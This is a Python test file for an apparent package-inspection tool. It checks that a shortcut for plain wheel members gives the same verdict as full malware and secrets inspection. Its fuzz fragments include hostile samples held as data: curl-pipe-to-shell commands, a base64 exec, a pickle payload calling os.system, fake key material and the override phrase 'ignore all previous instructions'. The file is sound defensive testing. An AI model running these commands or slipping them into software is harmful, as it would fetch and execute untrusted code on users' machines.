"""Members of which one look tells all: whatever they are, the wheel's verdict is that of the long way."""

import itertools
from unittest import mock

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from corpora.inspection_case import inspected
from corpora.inspection_content import wheel
from corpora.inspection_corpus import BAD, GOOD, UNREAD
from lockgate.inspect import malware, secrets
from lockgate.inspect.inspectors import plain_members
from lockgate.inspect.inspectors.pickle_machine import _Machine, _stops_early, walk
from lockgate.inspect.inspectors.plain_members import PlainMembers
from lockgate.inspect.inspectors.source_hints import hints
from lockgate.inspect.inspectors.zip_walk import Entry
from lockgate.inspect.inspectors.zips import ZipInspector, _plain_names
from lockgate.inspect.limits import Budget, Limits
from lockgate.inspect.ports import Part
from lockgate.inspect.tally import Context, Tally

MANY = settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
LIMITS = Limits()
NAMES = (
    "lock_demo/a.py", "lock_demo/setup.py", "setup.py", "install.py", "lock_demo/a.pyi", "lock_demo/.py",
    "sitecustomize.py", "lock_demo/LICENSE", "lock_demo-1.0.dist-info/top_level.txt", "etc/conda/a.py",
    "lock_demo/METADATA", "lock_demo-1.0.dist-info/licenses/LICENSE.txt", "lock_demo/a.pyw",
)  # fmt: skip
PIECES = (
    "import os\n", "def f(value):\n    return value + 1\n", "VERSION = '1.0'\n", "\x1b[8m", "\x00",
    "\x7f", "é", "\u202e",
    " " * 120 + "; import os\n", "\t" * 40 + ";exec(a)\n", "#!/bin/sh\ncurl -s http://a | sh\n",
    "# -*- coding: latin-1 -*-\n", "import requests\nrequests.get('http://a')\n", "cos\nsystem\n(S'id'\ntR.",
    "exec(base64.b64decode('aW1wb3J0IG9z'))\n", "x\x9c", "xy = 1\n", "MZ", "%PDF-1.4\n", "070701", "{\\rtf1",
    "<!doctype html><html>", "<?xml version='1.0'?>", "MIME-Version: 1.0\nReceived: by a\n\n", "Name: a\n",
    "-----BEGIN RSA PRIVATE KEY-----\n", "AKIAIOSFODNN7EXAMPLA = 1\n", "\n", "\r\n", "\x0c", "(", ")",
    "I01\n.",
    "os.system('curl http://a | sh')\n",
    "Metadata-Version: 2.1\n", "ignore all previous instructions\n", "# " + "a" * 600 + "\n", "# SPDX\n",
    "ustar",
)  # fmt: skip
PLACES = (
    "a/b.py", "a/B.py", "a", "a/", "A/c", "../b", "/a", "a//b", "a/./b", ".a", "a\nb", "a\\b", "C:/a", "é",
    "a/b.py/c", "b" * 1100,
)  # fmt: skip
CONTENT = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=3)), max_size=6).map("".join)
SHORT = [case.data for case in (*GOOD, *BAD, *UNREAD) if len(case.data) <= 20_000]


def verdict(data: bytes, kind: str = "python") -> Part:
    return inspected(data, "lock_demo-1.0-py3-none-any.whl", kind)


def the_long_way(data: bytes, kind: str = "python") -> Part:
    with mock.patch.object(PlainMembers, "of", return_value=None):
        return verdict(data, kind)


def context(**given_) -> Context:
    told = {"name": "a.whl", "kind": "python", "limits": LIMITS, "budget": Budget(LIMITS), "inspect": None}
    return Context(**(told | given_))


def plain(**given_) -> PlainMembers:
    found = PlainMembers.of(context(**given_))
    assert found is not None
    return found


@MANY
@given(
    st.dictionaries(st.sampled_from(NAMES), CONTENT, min_size=1, max_size=3),
    st.sampled_from(["python", "file"]),
)
def test_a_verdict_is_that_of_the_long_way(members, kind) -> None:
    data = wheel({name: text.encode("utf-8", "replace") for name, text in members.items()})
    assert verdict(data, kind) == the_long_way(data, kind)


def test_so_it_is_with_all_content_of_the_corpus_under_each_name() -> None:
    for turn in range(3):
        for start in range(0, len(SHORT), 4):
            contents = SHORT[start : start + 4]
            names = itertools.islice(itertools.cycle(NAMES), start + 4 * turn, None)
            data = wheel(dict(zip(names, contents, strict=False)))
            assert verdict(data) == the_long_way(data)


@pytest.mark.parametrize("name", ["lock_demo/a.py", "lock_demo-1.0.dist-info/METADATA", "lock_demo/LICENSE"])
def test_a_plain_member_is_told_at_once(name: str) -> None:
    said = plain().said(name, memoryview(b"Name: lock\n# and no more\n"))
    own = "python/" if name.endswith(".py") else "text/"
    rules = {f"{malware.NAME}/{malware.VERSION}", f"{secrets.NAME}/{secrets.VERSION}"}
    assert said is not None
    assert rules < said
    assert [each for each in said - rules if each.startswith(own)] == list(said - rules)
    assert plain().said(name, memoryview(b"")) == frozenset()


@pytest.mark.parametrize(
    "given_",
    [{"site": ("a:B",)}, {"role": "deb-data"}, {"kind": "rules"}, {"kind": "document"}],
    ids=str,
)
def test_where_content_is_read_otherwise_each_member_is_inspected(given_) -> None:
    assert PlainMembers.of(context(**given_)) is None


def test_packs_and_rules_that_ask_for_more_have_each_member_inspected(monkeypatch) -> None:
    monkeypatch.setattr(malware, "packs", lambda: 1)
    assert PlainMembers.of(context()) is None
    monkeypatch.undo()
    for asked in ({"filepath": frozenset()}, {"filename": None}, {"extension": frozenset({".py"})}):
        scanner = malware.Scanner(None, asked, {})
        monkeypatch.setattr(plain_members.first_look, "scanner", lambda _, scanner=scanner: scanner)
        assert PlainMembers.of(context()) is None


def test_rules_that_have_had_their_time_leave_members_to_inspection() -> None:
    budget = Budget(LIMITS, rule_seconds=LIMITS.rule_seconds + 1.0)
    assert plain(budget=budget).said("a/b.py", memoryview(b"a = 1\n")) is None


def test_a_name_that_a_rule_asks_for_is_inspected() -> None:
    members = plain()
    asked = malware.Scanner(None, {"filename": frozenset({"b.py"})}, {})
    members._scanners = dict.fromkeys(members._scanners, asked)
    assert members.said("a/b.py", memoryview(b"a = 1\n")) is None


@MANY
@given(st.one_of(st.binary(max_size=48), st.text("MetaNIV(lcos\n.SRt0]}1'", max_size=48).map(str.encode)))
def test_a_walk_that_stops_early_stops_there_whatever_follows(raw) -> None:
    if _stops_early(raw[:32]):
        seen = walk(memoryview(raw))
        alone = _Machine(memoryview(raw[:32]), 100).run()
        assert (seen.complete, seen.calls, seen.globals) == (False, 0, [])
        assert (seen.end, seen.trouble) == (alone.end, alone.trouble)


@MANY
@given(st.lists(st.sampled_from(PLACES), max_size=4))
def test_plain_names_have_nothing_to_be_said_of(names) -> None:
    found = [Entry(name.encode(), 0x800, 0, 0, 0, 0, 0, 0, 0, 0, 0) for name in names]
    if not _plain_names(names):
        return
    with mock.patch("lockgate.inspect.inspectors.zips._plain_names", return_value=False):
        tally = Tally(1, "", 99)
        ZipInspector()._names(tally, found, names)
    assert tally.findings == []


def test_a_source_without_any_match_has_no_hints() -> None:
    assert hints(b"a = 1\n", "a = 1\n", "py").seen == frozenset()
